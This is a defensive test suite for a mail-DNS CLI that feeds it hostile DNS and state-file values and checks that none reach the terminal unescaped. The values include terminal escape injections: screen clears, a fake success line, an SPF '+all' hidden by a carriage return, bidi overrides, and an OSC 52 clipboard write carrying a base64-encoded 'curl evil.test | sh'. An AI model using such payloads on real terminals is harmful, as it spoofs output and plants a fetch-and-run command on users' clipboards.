/**
 * No byte from DNS, a provider or a state file drives the terminal (DESIGN.md, "Exit codes": text
 * from outside is data). The embedded wire server serves TXT records holding a clear-screen, a CR
 * that hides a `+all`, a fake "ALL CHECKS PASSED", OSC 0 (window title) and OSC 52 (clipboard)
 * sequences, BEL, NUL, DEL, C1 and an RLO; MX and CNAME targets whose labels hold control bytes.
 * `validate`, `verify` and `records` run as subprocesses (NO_COLOR, a pipe): nothing raw may reach
 * stdout or stderr, the escaped forms must, and `--json` parses with no raw DEL/C1/format character.
 *
 * The DNS engine may decode odd bytes in names differently over time (escaped, rejected, kept); the
 * assertion that holds either way is the one made here: no raw control byte reaches the terminal.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startEmbeddedDns, type EmbeddedDns } from '../../src/dns/embedded-server.js';
import { parseJson, runCli, type CliResult } from '../helpers/cli.js';
import { cname, mx, rec, sesWanted, soa, stateFor, txt } from '../helpers/zone-builders.js';

const CLEAR = '\x1b[2J\x1b[H';
const TITLE = '\x1b]0;mailsetup: verified\x07';
const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07';
const FAKE = '\r\x1b[32mALL CHECKS PASSED\x1b[0m';
// One string holding a character above U+00FF is sent as UTF-8, so the C1 U+009B arrives as C1.
const BIDI_C1 = 'p=reject; \u202eenon=p\u202c \x9b31m \u200b\ufeff';

const SPF_HIDING_ALL = 'v=spf1 +all\rv=spf1 include:amazonses.com -all';
const DMARC_HOSTILE = `v=DMARC1; p=none; ${CLEAR}${FAKE}${TITLE}${CLIPBOARD}\x07\x00\x7f\trua=mailto:x@hostile.test`;

/** Raw bytes a terminal acts on (TAB and LF excepted: our own layout uses LF), and bidi/format characters. */
// eslint-disable-next-line no-control-regex
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
const BIDI = /[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/;

function assertInert(r: CliResult): void {
  for (const [stream, text] of [['stdout', r.stdout], ['stderr', r.stderr]] as const) {
    const raw = RAW.exec(text) ?? BIDI.exec(text);
    expect(raw, `${stream} holds a raw U+${raw ? raw[0].codePointAt(0)!.toString(16).padStart(4, '0') : ''} near ${JSON.stringify(raw ? text.slice(Math.max(0, raw.index - 30), raw.index + 30) : '')}`).toBeNull();
  }
}

function assertJsonInert(r: CliResult): unknown {
  const doc = parseJson(r);
  // eslint-disable-next-line no-control-regex
  expect(r.stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
  expect(r.stdout).not.toMatch(BIDI);
  return doc;
}

let dns: EmbeddedDns;
let dir: string;
let state: string;

beforeAll(async () => {
  dns = await startEmbeddedDns({
    records: [
      soa('hostile.test'),
      // validate: SPF, DMARC, DKIM, MX and a DKIM CNAME at the apex of hostile.test
      txt('hostile.test', SPF_HIDING_ALL),
      txt('_dmarc.hostile.test', [DMARC_HOSTILE, BIDI_C1]),
      txt('s1._domainkey.hostile.test', `v=DKIM1; k=rsa; p=${CLEAR}${TITLE}AAAA`),
      cname('s2._domainkey.hostile.test', `s2${CLEAR}.dkim\x07.evil.test`),
      mx('hostile.test', 10, `mx\x1b]0;t\x07\x00.hostile.test`),
      // verify: what is served at the names the state file expects
      cname('tok1._domainkey.mail.hostile.test', `tok1\x1b[2J\x1b[3J.dkim\x9b.evil.test`),
      mx('bounce.mail.hostile.test', 10, `fb${CLIPBOARD}.evil.test`),
      txt('bounce.mail.hostile.test', SPF_HIDING_ALL),
      txt('_dmarc.mail.hostile.test', [DMARC_HOSTILE, BIDI_C1]),
    ],
  });
  dir = mkdtempSync(join(tmpdir(), 'mailsetup-output-safety-'));
  state = join(dir, 'mailsetup.json');
  // mail.hostile.test: the SES records as asked for. records.test: values a provider might send back.
  writeFileSync(state, stateFor(['mail.hostile.test', 'records.test'], (d) => (d === 'records.test'
    ? [
      rec({ purpose: 'verification', type: 'TXT', name: '_provider.records.test', value: `token=${CLEAR}${FAKE}${TITLE}${CLIPBOARD}\x00\x7f\u202e\x9b\u200b` }),
      rec({ purpose: 'dkim', type: 'CNAME', name: 's1._domainkey.records.test', value: 's1\x1b[2J.dkim\x07.provider.test' }),
    ]
    : sesWanted(d))));
});
afterAll(async () => { await dns.close(); rmSync(dir, { recursive: true, force: true }); });

const dnsArgs = () => ['--resolver', dns.address, '--authoritative', dns.address, '--timeout', '2s'];

describe('output safety: hostile DNS text never reaches the terminal raw', () => {
  it('validate (human): every sequence escaped, the CR before +all shown', async () => {
    const r = await runCli(['validate', 'hostile.test', '--selector', 's1', '--selector', 's2', ...dnsArgs()]);
    expect(r.code).toBe(0);
    assertInert(r);
    expect(r.stdout).toContain('v=spf1 +all\\x0dv=spf1 include:amazonses.com -all');
    expect(r.stdout).toContain('\\x1b[2J');
    expect(r.stdout).toContain('\\x1b]52;c;');
    expect(r.stdout).toContain('\\u202e');
    expect(r.stdout).toMatch(/Verdict: /);
  });

  it('validate with colour forced on: only our SGR colour codes are raw; the record\'s own SGR is escaped', async () => {
    const r = await runCli(['validate', 'hostile.test', '--selector', 's1', ...dnsArgs()], { NO_COLOR: '', FORCE_COLOR: '1' });
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/\x1b\[\d+m/); // colour is on
    // eslint-disable-next-line no-control-regex
    assertInert({ ...r, stdout: r.stdout.replace(/\x1b\[[0-9;]*m/g, ''), stderr: r.stderr.replace(/\x1b\[[0-9;]*m/g, '') });
    expect(r.stdout).toContain('\\x1b[32mALL CHECKS PASSED\\x1b[0m');
  });

  it('validate --json: parses, and holds no raw DEL, C1 or format character', async () => {
    const r = await runCli(['validate', 'hostile.test', '--selector', 's1', '--selector', 's2', '--json', ...dnsArgs()]);
    expect(r.code).toBe(0);
    assertInert(r);
    const doc = assertJsonInert(r) as { checks: Array<{ check: string; record: unknown }> };
    // The data itself is kept exactly: escaping is for display, JSON readers get the record back.
    expect(doc.checks.find((c) => c.check === 'spf')!.record).toBe(SPF_HIDING_ALL);
    expect(r.stdout).toContain('\\u202e');
  });

  it('validate --ip (the SPF trace and its "why"): escaped too', async () => {
    const r = await runCli(['validate', 'hostile.test', '--ip', '192.0.2.1', ...dnsArgs()]);
    assertInert(r);
    expect(r.stdout).toContain('SPF evaluation for 192.0.2.1');
  });

  it('verify --no-provider (human): found values, targets and details escaped', async () => {
    const r = await runCli(['verify', 'mail.hostile.test', '--config', state, '--no-provider', ...dnsArgs()]);
    expect(r.code).toBe(0);
    assertInert(r);
    expect(r.stdout).toContain('\\x1b[2J');
    expect(r.stdout).toContain('\\x0d');
    expect(r.stdout).toContain('mail.hostile.test');
  });

  it('verify --json: parses, no raw DEL, C1 or format character', async () => {
    const r = await runCli(['verify', 'mail.hostile.test', '--config', state, '--no-provider', '--json', ...dnsArgs()]);
    assertInert(r);
    const doc = assertJsonInert(r) as { domain: string; records: unknown[] };
    expect(doc.domain).toBe('mail.hostile.test');
    expect(doc.records).toHaveLength(4);
  });

  it('watch (line mode and --json lines): inert', async () => {
    const base = ['watch', 'mail.hostile.test', '--config', state, '--no-provider', '--interval', '300ms', ...dnsArgs(), '--timeout', '1s'];
    const lines = await runCli(base);
    assertInert(lines);
    expect(lines.stdout).toMatch(/mail\.hostile\.test status: failed/);
    const json = await runCli([...base, '--json']);
    assertInert(json);
    const docs = json.stdout.trim().split('\n').map((l) => JSON.parse(l) as { domain: string });
    expect(docs.length).toBeGreaterThan(0);
    expect(docs[0]!.domain).toBe('mail.hostile.test');
    expect(json.stdout).toContain('\\u202e');
  });

  it('verify under GitHub Actions: the workflow commands are escaped as well', async () => {
    const r = await runCli(['verify', 'mail.hostile.test', '--config', state, '--no-provider', ...dnsArgs()], { GITHUB_ACTIONS: 'true' });
    assertInert(r);
    expect(r.stdout).toMatch(/^::(error|warning) /m);
  });
});

describe('output safety: provider values in the state file', () => {
  const records = (...extra: string[]) => runCli(['records', 'records.test', '--config', state, ...extra]);

  it('records (table): escaped before the layout measures them, so no line is wider than 100 but for one whole token', async () => {
    const r = await records();
    expect(r.code).toBe(0);
    assertInert(r);
    // Values are never broken inside a token, so every escape is whole.
    for (const s of ['\\x1b[2J', '\\x0d', '\\x1b]0;', '\\x00', '\\u202e', '\\x9b', '\\u200b', 's1\\x1b[2J.dkim\\x07.provider.test']) expect(r.stdout).toContain(s);
    const lines = r.stdout.split('\n');
    const rows = lines.filter((l) => /^[│┌├└]/.test(l));
    // Boxed: every row as wide as the border; stacked: a wider line is one token (the escaped value).
    if (rows.length) expect(new Set(rows.map((l) => [...l].length)).size).toBe(1);
    for (const l of lines) if ([...l].length > 100) expect(l.trim(), l).not.toContain(' ');
  });

  it('records --format zone: \\DDD escapes (the zone-file spelling of the same bytes)', async () => {
    const r = await records('--format', 'zone');
    assertInert(r);
    expect(r.stdout).toContain('\\027[2J');
    expect(r.stdout).toContain('\\226\\128\\174'); // U+202E in UTF-8
    expect(r.stdout).toContain('s1\\027[2J.dkim\\007.provider.test.');
  });

  it('records --format csv and --json: inert, and the JSON keeps the value exactly', async () => {
    const csv = await records('--format', 'csv');
    assertInert(csv);
    expect(csv.stdout).toContain('\\x1b[2J');
    const json = await records('--json');
    assertInert(json);
    const doc = assertJsonInert(json) as { records: Array<{ value: string }> };
    expect(doc.records[0]!.value).toContain('\x1b[2J');
    expect(json.stdout).toContain('\\u009b');
  });

  it('an error message quoting outside text is one escaped line', async () => {
    const r = await runCli(['records', 'missing\x1b[2J.test', '--config', state]);
    expect(r.code).toBe(64);
    assertInert(r);
    expect(r.stderr.trim().split('\n')).toHaveLength(2);
    expect(r.stderr).toMatch(/^error: .*\\x1b\[2J/);
  });
});
